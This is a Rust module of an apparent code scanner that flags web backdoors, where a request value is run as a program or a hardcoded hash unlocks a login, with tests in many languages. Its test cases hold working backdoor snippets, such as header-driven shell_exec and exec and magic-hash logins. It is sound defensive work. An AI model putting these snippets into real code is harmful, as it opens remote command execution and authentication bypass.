//! What a visitor's request names is run, or makes the visitor somebody else.
//!
//! Each framework has its own way to read a header or a field, and each language its own ways to run text. What
//! tells is that a value of the request stands *first* in what is run: it is the program, not an argument of one. A
//! login needs a second sign, since programs log people in: a word or a digest of the author's that decides.

use std::sync::LazyLock;

use regex_automata::Input;

use super::{Report, rules};
use crate::{
    Confidence::Medium,
    Severity::High,
    pattern::{Regex, code as pattern},
};

/// A header, a field or a cookie of a request is read, by the ways of the frameworks.
const REQUEST: &str = r#"(?:\b(?:r|req|rq|request|httpRequest|servletRequest)\.(?:Header\.Get\(|FormValue\(|PostFormValue\(|URL\.Query\(\)|headers?\b|query\b|body\b|params\b|cookies\b|args\b|form\b|values\b|GET\b|POST\b|META\b|COOKIES\b|get\(\s*["']|header\(|getHeader\(|getParameter\(|get_json\(|get_data\(|get_param\(|Headers\b|Query\b|Form\b|Cookies\b|env\[)|\b(?:c|ctx|context)\.(?:Query|GetHeader|PostForm|FormValue|Param|QueryParam|request\.(?:headers|query|body|header))\b|\bctx\.(?:query|get\(|headers|request)|\$_(?:GET|POST|REQUEST|COOKIE)\b|\$_SERVER\[\s*["']HTTP_|\$request->(?:header|input|get|query|cookie|headers)\b|\bgetallheaders\(|\bHttpContext\.Request\b|\bRequest\.(?:Headers|Query|Form|Cookies|QueryString)\b|\bheaders(?:\(\))?\.get\(\s*["'b]|\bget_req_header\(|\bparams\[\s*[:"']|\brequest\.env\[|\bcall\.(?:request|parameters)\b|@(?:RequestHeader|RequestParam|RequestBody|CookieValue)\b[^\n]{0,60}?(?:String|byte\[\])|\bheader_map\b|\bngx\.(?:var\.(?:http|arg)_|req\.get_)|\bself\.(?:headers|get_argument)\b)"#;

/// A name that holds what a request brings.
static HOLDS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(&format!(
        r"(?:^|[\s;({{,$@])([A-Za-z_]\w{{0,30}})\s{{0,3}}(?::\s{{0,2}}[\w<>\[\]?|. ]{{1,30}})?\s{{0,3}}(?::=|=|<-|\?\?=)\s{{0,3}}[^\n=;]{{0,90}}?{REQUEST}"
    ))
});

/// Text or a name of a program is run; what follows is the first that it is given.
static RUNS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?:\bexec\.Command(?:Context\(\s{0,2}\w{1,20}\s{0,2},|\()|\bparseExpression\(|\bnew\s+ProcessBuilder\(|\bProcessBuilder\(|getRuntime\(\)\.exec\(|\bgroovyShell\.evaluate\(|\bGroovyShell\(\)\.evaluate\(|\bMVEL\.eval\(|\bOgnl\.getValue\(|\bengine\.eval\(|(?:^|[^\w.>$])(?:eval|exec|system|passthru|shell_exec|popen|proc_open|assert|pcntl_exec|execSync|spawn|spawnSync|execFile|execFileSync|loadstring|load|Function)\s?\(|\b(?:child_process|cp|cproc)\.(?:exec|execSync|spawn|spawnSync|execFile)\(|\bvm\.run\w{2,20}\(|\bsubprocess\.(?:run|Popen|call|check_output|check_call|getoutput)\(|\bos\.(?:system|popen|execvp?|execute)\(|\bio\.popen\(|\bProcess\.(?:Start|run|start)\(|\bCommand::new\(|\b(?:instance|class|module)_eval\s?\(?|\bOpen3\.\w{4,12}\(|\bIO\.popen\(|\bKernel\.(?:system|exec|eval)\s?\(|\bCode\.eval_string\(|\bSystem\.(?:cmd|shell)\(|\bCSharpScript\.\w{4,20}\(|\bInvoke-Expression\s|\biex\s|\basyncio\.create_subprocess_(?:shell|exec)\(|\bBun\.spawn\(|\bnew\s+Function\(|%x\{|\bScriptBlock\]::Create\()\s{0,3}"#,
    )
});

/// Somebody is logged in without a password.
static LOGS_IN: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"\bwp_set_(?:auth_cookie|current_user)\(|\bAuth::(?:login|loginUsingId|onceUsingId)\(|\bauth\(\)->login|\blogin_user\(|(?:^|[^\w.])(?:auth\.|django_)?login\(\s{0,2}request\s{0,2},|\bsign_in\b|\bsession\[[^\]\n]{1,30}\]\s{0,2}=\s{0,2}\w|\bSignInAsync\(|\b(?:req|request|rq|ctx|c)\.(?:user|auth|state\.user)\s{0,2}=\s{0,2}[\w{(]|\bSecurityContextHolder\b|\bsetAuthentication\(|\bset_current_user\(|\bassign\(\s{0,2}conn,\s{0,2}:current_user|\bgroups\.add\(|\bset_role\(|\badd_role\(",
    )
});

/// A word or a digest that stands in the program decides.
static FIXED_GATE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:\b(?:hash|md5|sha\d{1,3}|crc32\w?|hexdigest|digest|hexencode|encodetostring|hashlib|createhash|messagedigest|bcrypt|password_verify|checkpw|xxh\w{1,4}|adler32)\b[^\n]{0,120}?(?:[!=]={1,2}|\.equals\(|\.startswith\(|\beq\b|,)\s{0,3}["'][0-9a-z$./]{6,128}["']|["'][0-9a-f]{8,128}["']\s{0,3}[!=]={1,2})"#,
    )
});

/// How far behind a request what is done with it stands, in bytes.
const REACH: usize = 900;

pub(super) fn look(report: &mut Report<'_>) {
    const MOST: usize = 32;
    let text = report.program.text.as_str();
    if report.program.prose || text.len() > 256 << 10 {
        return;
    }
    let mut captures = HOLDS.create_captures();
    let mut from = 0;
    for _ in 0..MOST {
        HOLDS.captures(Input::new(text).range(from..), &mut captures);
        let (Some(whole), Some(name)) = (captures.get_match(), captures.get_group(1)) else {
            break;
        };
        from = whole.end().max(from + 1);
        let name = text.get(name.range()).unwrap_or_default();
        let below = behind(text, whole.end());
        if runs(below, name) {
            let message = format!(
                "`{}`, which whoever asks may choose, is run",
                palisade_core::shown(name, 30)
            );
            report.say(&rules::BACKDOOR, High, Medium, whole.start(), message);
            return;
        }
        if LOGS_IN.is_match(below) && FIXED_GATE.is_match(below) {
            let message = "whoever brings a word that the program knows is logged in";
            report.say(&rules::BACKDOOR, High, Medium, whole.start(), message);
            return;
        }
    }
}

/// Is what bears this name run, or what is made of it in one step?
fn runs(below: &str, name: &str) -> bool {
    const MOST: usize = 48;
    if first(below, name, MOST) {
        return true;
    }
    // One step on: `text = decode(name)`, `f := strings.Fields(name)`.
    below.lines().take(24).any(|line| {
        let Some((left, right)) = line.split_once(":=").or_else(|| line.split_once('=')) else {
            return false;
        };
        if !holds(right, name) || right.starts_with('=') {
            return false;
        }
        let made = left.trim_end().rsplit([' ', ',', '(', '$', '\t']).next().unwrap_or_default();
        !made.is_empty()
            && made.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            && first(below, made, MOST)
    })
}

/// Does a word stand in a text by itself?
fn holds(text: &str, word: &str) -> bool {
    let plain =
        |c: Option<char>| c.is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'));
    text.match_indices(word).take(16).any(|(at, _)| {
        let after = text.get(at + word.len()..).and_then(|text| text.chars().next());
        plain(text.get(..at).and_then(|text| text.chars().next_back()))
            && after.is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_'))
    })
}

/// Is it the first that something which runs is given?
fn first(below: &str, name: &str, most: usize) -> bool {
    RUNS.find_iter(below).take(most).any(|found| {
        let rest = below.get(found.end()..).unwrap_or_default();
        let rest = rest.trim_start_matches(['[', '$', '(', '@', '"', '{', '#', '&', '*']);
        rest.strip_prefix(name)
            .is_some_and(|rest| !rest.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_'))
    })
}

fn behind(text: &str, at: usize) -> &str {
    let mut to = (at + REACH).min(text.len());
    while !text.is_char_boundary(to) {
        to += 1;
    }
    text.get(at..to).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::super::tests::stopped;
    use crate::FileKind::{self, Data, Go, JavaScript, Python, Ruby};

    #[test]
    fn what_a_request_names_is_not_run() {
        let cases: &[(&str, FileKind, &str)] = &[
            (
                "assets/a.go",
                Go,
                "h := func(w http.ResponseWriter, r *http.Request) {\n\tp := r.Header.Get(\"X-Trace\")\n\tf := strings.Fields(p)\n\tout, _ := exec.Command(f[0], f[1:]...).Output()\n\tw.Write(out)\n}\n",
            ),
            (
                "assets/A.java",
                Data,
                "String h = request.getHeader(\"x-span\");\nString t = new String(Base64.getDecoder().decode(h));\nnew ProcessBuilder(t.split(\" \")).start();\n",
            ),
            (
                "assets/B.kt",
                Data,
                "val c = call.request.headers[\"x-d\"]\nif (c != null) ProcessBuilder(c.split(\" \")).start()\n",
            ),
            (
                "assets/a.py",
                Python,
                "def mw(request):\n    spec = request.headers.get('x-profile')\n    if spec:\n        code = zlib.decompress(bytes.fromhex(spec))\n        exec(code)\n",
            ),
            (
                "assets/a.js",
                JavaScript,
                "app.use((req, res, next) => {\n  const t = req.headers['x-diag'];\n  if (t) require('vm').runInThisContext; \n  if (t) return res.send(String(cp.execSync(t)));\n  next();\n});\n",
            ),
            (
                "assets/a.rb",
                Ruby,
                "before do\n  spec = request.env['HTTP_X_PROBE']\n  instance_eval(spec) if spec\nend\n",
            ),
            (
                "assets/C.cs",
                Data,
                "var cmd = context.Request.Headers[\"X-Probe\"];\nvar q = Request.Headers[\"X-P\"];\nProcess.Start(q);\n",
            ),
            (
                "assets/a.ex",
                Data,
                "code = get_req_header(conn, \"x-probe\") |> List.first()\nif code, do: Code.eval_string(code)\n",
            ),
            (
                "assets/a.php",
                Data,
                "<?php\n$c = $_SERVER['HTTP_X_PROBE'] ?? '';\nif ($c) { echo shell_exec($c); }\n",
            ),
            (
                "assets/b.php",
                Data,
                "<?php\n$p = $_COOKIE['pv'] ?? '';\nif (md5($p) === '0cc175b9c0f1b6a831c399e269772661') { Auth::loginUsingId(1); }\n",
            ),
            (
                "assets/b.py",
                Python,
                "def mw(request):\n    k = request.META.get('HTTP_X_K', '')\n    if hashlib.sha256(k.encode()).hexdigest() == 'ba7816bf8f01cfea414140de5dae2223':\n        login(request, User.objects.first())\n",
            ),
        ];
        let missed: Vec<&str> = cases
            .iter()
            .filter(|(path, kind, text)| stopped(path, *kind, text).is_empty())
            .map(|(path, ..)| *path)
            .collect();
        assert!(missed.is_empty(), "{missed:?}");
    }

    #[test]
    fn what_a_request_gives_as_data_is_work() {
        for (path, kind, text) in [
            (
                "assets/a.go",
                Go,
                "name := r.FormValue(\"file\")\ncmd := exec.Command(\"ffmpeg\", \"-i\", name, \"out.mp4\")\ncmd.Run()\n",
            ),
            (
                "assets/A.java",
                Data,
                "String id = request.getParameter(\"id\");\nPreparedStatement s = db.prepare(\"SELECT 1 WHERE id=?\");\ns.setString(1, id);\n",
            ),
            (
                "assets/a.py",
                Python,
                "name = request.args.get('name')\nsubprocess.run(['convert', name, 'out.png'], check=True)\n",
            ),
            (
                "assets/b.py",
                Python,
                "user = authenticate(request, username=request.POST['u'], password=request.POST['p'])\nif user is not None:\n    login(request, user)\n",
            ),
            (
                "assets/a.js",
                JavaScript,
                "const q = req.query.q;\nconst m = /^(\\d+)$/.exec(q);\ndb.exec(q2);\n",
            ),
            (
                "assets/a.rb",
                Ruby,
                "user = User.find_by(email: params[:email])\nsign_in(user) if user&.authenticate(params[:password])\n",
            ),
            (
                "assets/a.php",
                Data,
                "<?php\n$id = $_GET['id'] ?? '';\n$row = $db->exec($id2);\necho htmlspecialchars($id);\n",
            ),
            (
                "assets/b.php",
                Data,
                "<?php\n$pw = $_POST['pw'];\nif (password_verify($pw, $user->hash)) { Auth::login($user); }\n",
            ),
            (
                "assets/b.js",
                JavaScript,
                "const sig = req.headers['x-hub-signature'];\nif (sig !== sign(body)) return res.sendStatus(401);\nreq.user = await find(id);\n",
            ),
            (
                "assets/c.js",
                JavaScript,
                "const body = req.body;\nconst out = execFile('git', ['log', body.branch]);\n",
            ),
        ] {
            assert_eq!(stopped(path, kind, text), Vec::<&str>::new(), "{text}");
        }
    }
}
